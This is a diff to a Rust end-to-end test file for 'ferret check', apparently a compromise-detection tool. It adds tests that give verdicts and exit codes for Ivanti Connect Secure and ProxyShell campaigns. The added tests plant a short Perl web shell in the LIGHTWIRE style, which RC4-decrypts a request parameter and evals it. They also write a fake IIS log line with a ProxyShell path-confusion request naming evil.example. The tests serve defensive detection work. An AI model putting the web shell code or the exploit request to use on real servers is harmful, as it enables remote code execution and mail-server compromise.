@@ -1,7 +1,8 @@
 //! `ferret check` end to end: verdicts and exit statuses over a fake Exchange tree, in text,
 //! JSONL and CSV; a named campaign with no inputs; a bad campaign name; a genuine-shaped Pulse
 //! Connect Secure appliance (vendor key and signature made at test time with `openssl`) with
-//! and without SLIGHTPULSE's published code in `meeting_testjs.cgi`.
+//! and without SLIGHTPULSE's published code in `meeting_testjs.cgi`; the same appliance under its
+//! Ivanti Connect Secure name, with and without LIGHTWIRE; ProxyShell over the Exchange host.
 
 use std::path::{Path, PathBuf};
 use std::process::Command as Process;
@@ -267,4 +268,63 @@ fn slightpulse_in_meeting_testjs_is_affected_and_exits_one() {
     assert_eq!(code, 1, "{out}");
     assert!(out.contains("pulse-secure") && out.contains("AFFECTED"), "{out}");
     assert!(out.contains("PS004") && out.contains("SLIGHTPULSE"), "{out}");
+}
+
+/// The same genuine appliance under its Ivanti Connect Secure name: NOT FOUND, exit 0; with
+/// LIGHTWIRE's published code added to `compcheckresult.cgi` (manifest re-signed, as with a
+/// leaked key): AFFECTED, exit 1.
+#[test]
+fn ivanti_connect_secure_verdicts_and_exit_statuses() {
+    let t = Tree::new();
+    let Some(public) = appliance(&t, &genuine_pages()) else { return };
+    let key = public.to_string_lossy().into_owned();
+    let args = ["--campaign", "ivanti-connect-secure", "--vendor-key", &key, "--format", "jsonl"];
+    let (code, out) = ferret(&args, &t.root().join("pcs"));
+    assert_eq!(code, 0, "{out}");
+    let s = summary(&out);
+    assert_eq!(s["details"]["verdicts"][0]["campaign"], "ivanti-connect-secure", "{s}");
+    assert_eq!(s["details"]["verdicts"][0]["verdict"], "not_found", "{s}");
+
+    let t = Tree::new();
+    let mut pages = genuine_pages();
+    pages[2].1.push_str(concat!(
+        "eval{my $c=Crypt::RC4->new(\"k\");my $d=$c->RC4(decode_base64(CGI::param('cid')));",
+        ";eval $d;};if($@){print \"Compatibility check: $@\";}\n"
+    ));
+    let Some(public) = appliance(&t, &pages) else { return };
+    let key = public.to_string_lossy().into_owned();
+    let args = ["--campaign", "ivanti-connect-secure", "--vendor-key", &key, "--format", "jsonl"];
+    let (code, out) = ferret(&args, &t.root().join("pcs"));
+    assert_eq!(code, 1, "{out}");
+    assert!(out.contains("\"IC001\""), "{out}");
+    assert_eq!(summary(&out)["details"]["verdicts"][0]["verdict"], "affected");
+}
+
+/// An Exchange host whose IIS logs cover August 2021: ProxyShell NOT FOUND (exit 0); with the
+/// Autodiscover path confusion in them, AFFECTED (exit 1); logs that end before August 2021
+/// cannot show it: UNKNOWN (exit 3).
+#[test]
+fn proxyshell_verdicts_and_exit_statuses() {
+    let t = clean_host();
+    let mut log = IIS_HEADER.to_owned();
+    for i in 0..10 {
+        log.push_str(&format!(
+            "2021-08-10 10:00:0{i} 10.0.0.2 GET /autodiscover/autodiscover.json Email=u{i}@example.org&Protocol=ActiveSync 443 - 192.0.2.{i} Outlook-iOS/2.0 - 200 0 0 5\n"
+        ));
+    }
+    t.file("inetpub/logs/LogFiles/W3SVC1/u_ex210810.log", &log);
+    let (code, out) = ferret(&["--campaign", "proxyshell", "--format", "jsonl"], t.root());
+    assert_eq!(code, 0, "{out}");
+    assert_eq!(summary(&out)["details"]["verdicts"][0]["verdict"], "not_found", "{out}");
+
+    log.push_str("2021-08-12 03:04:05 10.0.0.2 POST /autodiscover/autodiscover.json @evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example 443 - 203.0.113.9 python-requests/2.26.0 - 200 0 0 40\n");
+    t.file("inetpub/logs/LogFiles/W3SVC1/u_ex210810.log", &log);
+    let (code, out) = ferret(&["--campaign", "proxyshell", "--format", "jsonl"], t.root());
+    assert_eq!(code, 1, "{out}");
+    assert!(out.contains("\"PX001\""), "{out}");
+
+    let t = clean_host();
+    let (code, out) = ferret(&["--campaign", "proxyshell", "--format", "jsonl"], t.root());
+    assert_eq!(code, 3, "{out}");
+    assert_eq!(summary(&out)["details"]["verdicts"][0]["verdict"], "unknown", "{out}");
 }
